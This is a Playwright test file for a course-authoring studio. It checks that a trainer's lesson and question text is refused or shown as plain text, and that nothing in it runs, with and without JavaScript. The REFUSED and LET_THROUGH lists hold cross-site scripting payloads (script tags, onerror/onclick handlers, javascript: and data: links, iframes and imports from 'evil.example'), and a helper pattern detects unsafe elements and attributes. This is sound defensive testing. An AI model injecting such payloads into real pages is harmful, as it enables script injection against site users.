/** A trainer edits a module in the browser, with and without JavaScript; hostile text runs nowhere. */
import type { Page } from "@playwright/test";
import { signIn } from "./people.ts";
import { expect, expectAccessible, test } from "./serve.ts";

const LESSON = "harm-need-repair";

/** Text that would run, were it let through; none of it is. */
const REFUSED = [
  "{globalThis.pwned = 1}",
  '<Say onClick="globalThis.pwned=1" style="color:red">\n\nHi\n\n</Say>',
  '<img src="x" onerror="globalThis.pwned=1" />',
  "<script>globalThis.pwned=1</script>",
  '<iframe src="https://evil.example" />',
  'import x from "https://evil.example/x.js"',
  "[a](javascript:globalThis.pwned=1)",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "![a](https://evil.example/a.png)",
  `${"> ".repeat(60)}a`,
];

/** Text that the subset lets through, dressed as what would run. */
const LET_THROUGH = [
  "Write `<script>globalThis.pwned=1</script>` and \\<img src=x onerror=alert(1)\\> as text.",
  "&lt;script&gt;alert(1)&lt;/script&gt; &lt;iframe src=javascript:alert(1)&gt; \\{globalThis.pwned = 1\\}",
  '[a page elsewhere](https://example.org/"onmouseover="globalThis.pwned=1 "x\\" onfocus=\\"alert(1)")',
  '[the page about help](/help?x=<svg/onload=alert(1)>) <Term id="capacity">\\"onclick=alert(1)</Term>',
  '<Example title="&quot;><script>globalThis.pwned=1</script>">\n\n```html\n<script>alert(1)</script>\n```\n\n</Example>',
  '<Reveal title="javascript:alert(1)">\n\nSaid <!--slot:0--> and style="x".\n\n</Reveal>'.replace(
    "<!--slot:0-->",
    "&lt;!--slot:0--&gt;",
  ),
].join("\n\n");

const REFUSED_BY_POLICY = "Content-Security-Policy refused";

/** What a page did that it should not have; filled as it happens. */
async function watched(page: Page): Promise<string[]> {
  const seen: string[] = [];
  const origin = new URL(page.url()).origin;
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { protocol, origin: to } = new URL(request.url());
    if (protocol !== "data:" && protocol !== "blob:" && to !== origin) seen.push(`request ${request.url()}`);
  });
  page.on("console", (message) => {
    if (message.text().startsWith(REFUSED_BY_POLICY)) seen.push(message.text());
  });
  page.on("pageerror", (error) => seen.push(`error ${error.message}`));
  await page.addInitScript(
    (prefix) =>
      document.addEventListener("securitypolicyviolation", (event) => {
        const { effectiveDirective, blockedURI, sourceFile, sample, target } = event;
        // Ours: zod asks whether it may compile, and the editor measures a line of its own. Both take no for an answer.
        if (blockedURI === "eval" || (target instanceof Element && target.matches(".cm-line"))) return;
        const at = target instanceof Element ? target.outerHTML.slice(0, 200) : "document";
        console.error(`${prefix} ${effectiveDirective} ${blockedURI} by ${sourceFile} "${sample}" at ${at}`);
      }),
    REFUSED_BY_POLICY,
  );
  return seen;
}

/** Everything in a part of the page that could run, point out of the house by itself, or restyle it. */
async function unsafeIn(page: Page, selector: string): Promise<string[]> {
  return page
    .locator(selector)
    .evaluateAll((roots) =>
      roots.flatMap((root) =>
        [...root.querySelectorAll("*")].flatMap((element) => [
          ...(/^(script|iframe|object|embed|base|meta|link|style)$/i.test(element.tagName)
            ? [element.outerHTML.slice(0, 100)]
            : []),
          ...[...element.attributes]
            .filter(
              ({ name, value }) =>
                /^on/i.test(name) ||
                name === "style" ||
                (/^(href|src|action|formaction)$/i.test(name) &&
                  /^\s*(javascript|data|vbscript):/i.test(value)),
            )
            .map(({ name, value }) => `${name}=${value}`.slice(0, 100)),
        ]),
      ),
    );
}

const saved = (page: Page) => expect(page.locator(".draft-saved")).toContainText(/^\s*Saved/);

test("a trainer edits a lesson and a question; hostile text is refused or shown as text, and nothing runs", async ({
  page,
  javaScriptEnabled,
}) => {
  // Each hostile text is a save and a preview of its own.
  test.setTimeout(300_000);
  await signIn(page, "trainer");
  const seen = await watched(page);
  await page.goto("/studio");
  await page.getByRole("button", { name: /^Write version \d+ of What RJ is/ }).click();
  await page.waitForURL(/\/module$/);
  const draft = page.url().replace(/\/module$/, "");
  await expectAccessible(page);

  await page.goto(`${draft}/lessons/${LESSON}`);
  const text = page.locator("textarea[name=text]");
  const before = await text.inputValue();
  const save = async (value: string) => {
    if (javaScriptEnabled) {
      // An editor lies over the text area; what is written in it stands in the area too.
      const answer = page.waitForResponse((response) => response.url().endsWith("/save"));
      await page.getByRole("textbox", { name: "The text", exact: true }).focus();
      await page.keyboard.press("Control+A");
      await page.keyboard.insertText(value);
      await answer;
    } else {
      await text.fill(value);
      await page.getByRole("button", { name: "Save", exact: true }).click();
    }
    await saved(page);
  };
  const findings = page.getByRole("list", { name: "Findings about this lesson" });
  await save(`## A\n\n${REFUSED.join("\n\n")}`);
  await expect(findings).toContainText(/line \d+/i);
  expect(await unsafeIn(page, ".preview")).toEqual([]);
  // Each by itself, so that no first mistake hides another.
  for (const one of javaScriptEnabled ? REFUSED : []) {
    await save(`## A\n\n${one}`);
    await expect(findings).toContainText(/not allowed|too deep|a style|cannot be read|alt text|component/i);
    expect(await unsafeIn(page, ".preview")).toEqual([]);
  }

  const after = before.replace("She nods. Then", `${LET_THROUGH}\n\nShe nods, slowly. Then`);
  await save(after);
  await expect(findings).toHaveCount(0);
  const preview = page.getByRole("region", { name: "Preview" });
  await expect(preview).toContainText("She nods, slowly");
  await expect(preview.getByRole("group", { name: /Mrs Nolan asks/ })).toBeVisible();
  expect(await unsafeIn(page, ".preview")).toEqual([]);
  await expectAccessible(page);

  await page.goto(`${draft}/questions/nolan-kitchen`);
  await page.getByRole("button", { name: "Add an option" }).click();
  const fifth = page.getByRole("group", { name: "Option 5", exact: true });
  await fifth.getByLabel("What it says").fill("<img src=x onerror=alert(1)> Say nothing yet.");
  await fifth.getByLabel("What is said to whoever chooses it").fill("He waits, and so does she.");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.getByRole("list", { name: "Findings about this question" })).toContainText(/raw HTML/);
  expect(await unsafeIn(page, ".preview")).toEqual([]);
  await expectAccessible(page);
  await page.getByRole("button", { name: "Delete option 5" }).click();
  await expect(fifth).toHaveCount(0);
  await expect(page.getByRole("list", { name: "Findings about this question" })).toHaveCount(0);

  if (javaScriptEnabled) expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(seen).toEqual([]);
});
